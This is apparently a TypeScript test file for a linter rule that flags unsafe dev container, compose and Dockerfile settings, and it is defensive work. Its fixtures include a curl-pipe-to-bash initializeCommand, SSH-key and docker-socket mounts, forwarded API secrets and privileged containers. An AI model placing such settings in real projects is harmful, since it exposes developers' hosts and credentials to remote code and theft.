import rule from '../../src/rules/no-unsafe-devcontainer.ts';
import { ruleTester } from '../tester.ts';

const dev = '.devcontainer/devcontainer.json';
const compose = 'compose.yaml';
const docker = 'Dockerfile';
const json = (value: unknown): string => JSON.stringify(value, null, 2);
const yaml = (...lines: readonly string[]): string => `services:\n  app:\n    image: app:1\n${lines.map((line) => `    ${line}\n`).join('')}`;

await ruleTester(rule, {
  valid: [
    ...['ANTHROPIC_API_KEY', 'GITHUB_TOKEN'].map((name) => ({ code: json({ image: 'x:1', remoteUser: 'dev', remoteEnv: { [name]: `\${localEnv:${name}}` } }), filename: dev })),
    { filename: compose, code: 'services:\n  manage:\n    image: portainer/agent:2.21.4\n    volumes: ["/:/host"]\n' },
    // hosts, registries and names that the policy knows
    { code: 'FROM node:22\nENV npm_config_registry=https://npm.acme-tools.dev\n', filename: 'Dockerfile', settings: { trustedRegistries: ['*.acme-tools.dev'] } },
    { code: 'services:\n  a:\n    image: app:1\n    environment: ["npm_config_registry=https://npm.acme-tools.dev"]\n', filename: 'compose.yaml', settings: { trustedRegistries: ['npm.acme-tools.dev'] } },
    { code: '# syntax=ghcr.io/acme/frontend:1\nFROM node:22\n', filename: 'Dockerfile', options: { allowedHosts: ['ghcr.io'] } },
    { code: JSON.stringify({ image: 'x', containerEnv: { MY_TOKEN: '${localEnv:MY_TOKEN}' } }), filename: '.devcontainer/devcontainer.json', settings: { allowedNames: ['MY_TOKEN'] } },
    ...['ghcr.io/acme/f', 'ghcr.io/acme/f:1', 'ghcr.io/acme/**'].map((entry) => ({ code: JSON.stringify({ image: 'mcr.microsoft.com/devcontainers/base:1', remoteUser: 'vscode', features: { 'ghcr.io/acme/f:1': {} } }), filename: '.devcontainer/devcontainer.json', options: { strict: true, allowedFeatures: [entry] } })),
    {
      filename: dev,
      options: { strict: true },
      code: `{
  // The usual dev container
  "name": "app",
  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm",
  "features": { "ghcr.io/devcontainers/features/github-cli:1": {}, "./local-feature": {} },
  "runArgs": ["--init", "--cap-add=NET_ADMIN", "--cap-add=NET_RAW", "--add-host=host.docker.internal:host-gateway"],
  "mounts": ["source=claude-code-config-\${devcontainerId},target=/home/node/.claude,type=volume", { "source": "node_modules", "target": "/w/node_modules", "type": "volume" }],
  "containerEnv": { "NODE_OPTIONS": "--max-old-space-size=4096" },
  "initializeCommand": "mkdir -p .cache && docker network create dev || true",
  "postCreateCommand": { "install": "npm ci", "db": ["docker", "compose", "pull"] },
  "forwardPorts": [3000, "db:5432"],
  "remoteUser": "node",
}`,
    },
    { filename: dev, code: json({ runArgs: ['--privileged'], features: { 'ghcr.io/devcontainers/features/docker-in-docker:2': {} } }) },
    { filename: dev, code: json({ mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'], features: { 'ghcr.io/devcontainers/features/docker-outside-of-docker:1': {} } }) },
    { filename: dev, code: json({ runArgs: ['--cap-add=SYS_PTRACE', '--security-opt', 'seccomp=unconfined'] }) },
    { filename: dev, code: json({ mounts: ['source=/srv/shared,target=/x,type=bind'] }) },
    { filename: dev, code: json({ mounts: ['source=~/.aws,target=/x,type=bind'] }), options: { allowedMounts: ['~/.aws'] } },
    { filename: dev, code: json({ features: { 'ghcr.io/my-org/features/x:1': {} } }), options: { strict: true, allowedFeatures: ['ghcr.io/my-org/**'] } },
    { filename: dev, code: json({ postCreateCommand: 'curl -fsSL https://example.com/data.json -o data.json' }), options: { strict: true } },
    { filename: dev, code: json({ privileged: 'yes', runArgs: 'x', mounts: [1, null, {}], capAdd: {}, features: [] }), options: { strict: true } },
    { filename: 'package.json', code: json({ privileged: true, mounts: ['source=/,target=/x,type=bind'] }) },
    { filename: compose, code: yaml('ports: ["127.0.0.1:3000:3000"]', 'volumes:', '  - ./src:/app', '  - /etc/localtime:/etc/localtime:ro', 'security_opt: [no-new-privileges:true]', 'environment:', '  POSTGRES_PASSWORD: postgres'), options: { strict: true } },
    { filename: compose, code: 'services:\n  proxy:\n    image: traefik:v3.1\n    network_mode: host\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n' },
    { filename: compose, code: 'services:\n  metrics:\n    image: quay.io/prometheus/node-exporter:v1\n    pid: host\n    volumes: ["/:/host:ro,rslave"]\n' },
    { filename: compose, code: 'services:\n  dind:\n    image: docker:28-dind\n    privileged: true\n' },
    { filename: compose, code: yaml('network_mode: host', 'volumes: ["/var/run/docker.sock:/var/run/docker.sock"]') },
    { filename: compose, code: 'x-privileged:\n  privileged: true\nvolumes:\n  data:\n' },
    { filename: docker, code: '# syntax=docker/dockerfile:1\nFROM node:22 AS build\nWORKDIR /app\nCOPY package.json package-lock.json .npmrc ./\nRUN --mount=type=secret,id=npm npm ci\nCOPY . .\nFROM node:22-slim\nCOPY --from=build /app/dist /app\nENV PATH="/app/bin:${PATH}" NODE_ENV=production\nUSER node\nCMD ["node", "/app/index.js"]\n' },
    { filename: docker, code: 'FROM alpine:3\nADD https://example.com/tool.tgz /tmp/\nUSER root\n' },
    { filename: docker, code: 'FROM node:22\nCOPY .env.production ./\n' },
    { filename: docker, code: '# COPY .env /app\nFROM node:22\nLABEL note="ADD http://x.dev/y"\n', options: { strict: true } },
    { filename: 'docs/notes.md', code: 'COPY .env /app\n' },
  ],
  invalid: [
    ...['ANTHROPIC_API_KEY_PROD', 'STRIPE_SECRET_KEY'].map((name) => ({ code: json({ image: 'x:1', remoteUser: 'dev', remoteEnv: { [name]: `\${localEnv:${name}}` } }), filename: dev, errors: [{ messageId: 'forwardedSecret' as const }] })),
    { code: json({ image: 'x:1', remoteUser: 'dev', remoteEnv: { ANTHROPIC_API_KEY: '${localEnv:ANTHROPIC_API_KEY}' } }), filename: dev, options: { strict: true }, errors: [{ messageId: 'forwardedSecret' }] },
    { filename: compose, code: 'services:\n  helper:\n    image: acme/agent:1.0.0\n    volumes:\n      - /:/host\n', errors: [{ messageId: 'mount', line: 5 }] },
    { code: 'FROM node:22\nENV npm_config_registry=https://npm.acme-tools.dev\n', filename: 'Dockerfile', settings: { trustedRegistries: ['acme-tools.dev'] }, errors: [{ messageId: 'variable' }] },
    { code: JSON.stringify({ image: 'x', containerEnv: { MY_TOKEN: '${localEnv:MY_TOKEN}' } }), filename: '.devcontainer/devcontainer.json', settings: { allowedNames: ['OTHER'] }, errors: [{ messageId: 'forwardedSecret' }] },
    ...['ghcr.io/acme', 'ghcr.io/acme/f:2', 'ghcr.io/acme/*x'].map((entry) => ({ code: JSON.stringify({ image: 'mcr.microsoft.com/devcontainers/base:1', remoteUser: 'vscode', features: { 'ghcr.io/acme/f:1': {} } }), filename: '.devcontainer/devcontainer.json', options: { strict: true, allowedFeatures: [entry] }, errors: [{ messageId: 'feature' as const }] })),
    {
      filename: dev,
      code: '{\n  "runArgs": ["--privileged", "--security-opt", "seccomp=unconfined"]\n}',
      errors: [
        { messageId: 'privileged', line: 2, column: 15, endColumn: 29, data: { value: '--privileged' } },
        { messageId: 'profile', line: 2, column: 31, endColumn: 47, data: { value: 'seccomp=unconfined' } },
      ],
    },
    {
      filename: dev,
      code: '{\n  "initializeCommand": "curl -s https://x.example/i.sh | bash"\n}',
      errors: [{ messageId: 'hostCommand', line: 2, column: 3, endColumn: 22, data: { what: 'loads code, hides it or sends data out' } }],
    },
    { filename: dev, code: json({ mounts: ['source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind'] }), errors: [{ messageId: 'mount', data: { what: 'SSH keys' } }] },
    { filename: dev, code: json({ mounts: ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'] }), errors: [{ messageId: 'socket' }] },
    { filename: dev, code: json({ runArgs: ['--cap-add=SYS_PTRACE', '--security-opt', 'seccomp=unconfined'] }), options: { strict: true }, errors: [{ messageId: 'profile' }] },
    { filename: dev, code: json({ runArgs: ['--privileged'], features: { 'ghcr.io/devcontainers/features/docker-in-docker:2': {} } }), options: { strict: true }, errors: [{ messageId: 'privileged' }] },
    { filename: dev, code: json({ image: 'node:latest', remoteUser: 'root' }), options: { strict: true }, errors: [{ messageId: 'image' }, { messageId: 'rootUser' }] },
    { filename: 'x/devcontainer-feature.json', code: json({ id: 'x', version: '1.0.0', privileged: true, capAdd: ['SYS_ADMIN'] }), errors: [{ messageId: 'privileged' }, { messageId: 'capability' }] },
    {
      filename: compose,
      code: yaml('privileged: true', 'cap_add: [ALL]', 'pid: host', 'volumes:', '  - ~/.ssh:/root/.ssh:ro'),
      errors: [
        { messageId: 'privileged', line: 4, column: 5, endColumn: 15 },
        { messageId: 'capability', line: 5, column: 15, endColumn: 18 },
        { messageId: 'namespace', line: 6, data: { value: 'pid: host', what: 'processes' } },
        { messageId: 'mount', line: 8, column: 9 },
      ],
    },
    { filename: '.devcontainer/docker-compose.yml', code: yaml('network_mode: host', 'volumes: ["/var/run/docker.sock:/var/run/docker.sock"]'), errors: [{ messageId: 'namespace' }, { messageId: 'socket' }] },
    { filename: compose, code: yaml('network_mode: host', 'ports: ["5432:5432"]'), options: { strict: true }, errors: [{ messageId: 'namespace' }, { messageId: 'exposed' }] },
    { filename: compose, code: 'x-base: &base\n  privileged: true\nservices:\n  app:\n    <<: *base\n    image: app:1\n', errors: [{ messageId: 'privileged' }] },
    { filename: compose, code: 'include:\n  - https://github.com/x/y.git\nservices: {}\n', errors: [{ messageId: 'remoteFile' }] },
    {
      filename: docker,
      code: 'FROM node:22\nCOPY package.json \\\n  .env \\\n  /app/\nADD http://x.dev/y.tgz /y\n',
      errors: [
        { messageId: 'secretFile', line: 3, column: 3, endLine: 3, endColumn: 7, data: { what: 'environment file', where: 'the image and every copy of it' } },
        { messageId: 'download', line: 5, column: 5, endColumn: 23 },
      ],
    },
    { filename: 'docker/web.Dockerfile', code: 'FROM node:22\nENV BASH_ENV=./x.sh\nRUN --security=insecure make\n', errors: [{ messageId: 'variable', line: 2, column: 5, endColumn: 13 }, { messageId: 'insecureBuild', line: 3, column: 5 }] },
    { filename: docker, code: 'FROM node:22\nADD https://x.dev/y.tgz /y\nUSER root\n', options: { strict: true }, errors: [{ messageId: 'download' }, { messageId: 'rootUser' }] },
  ],
});
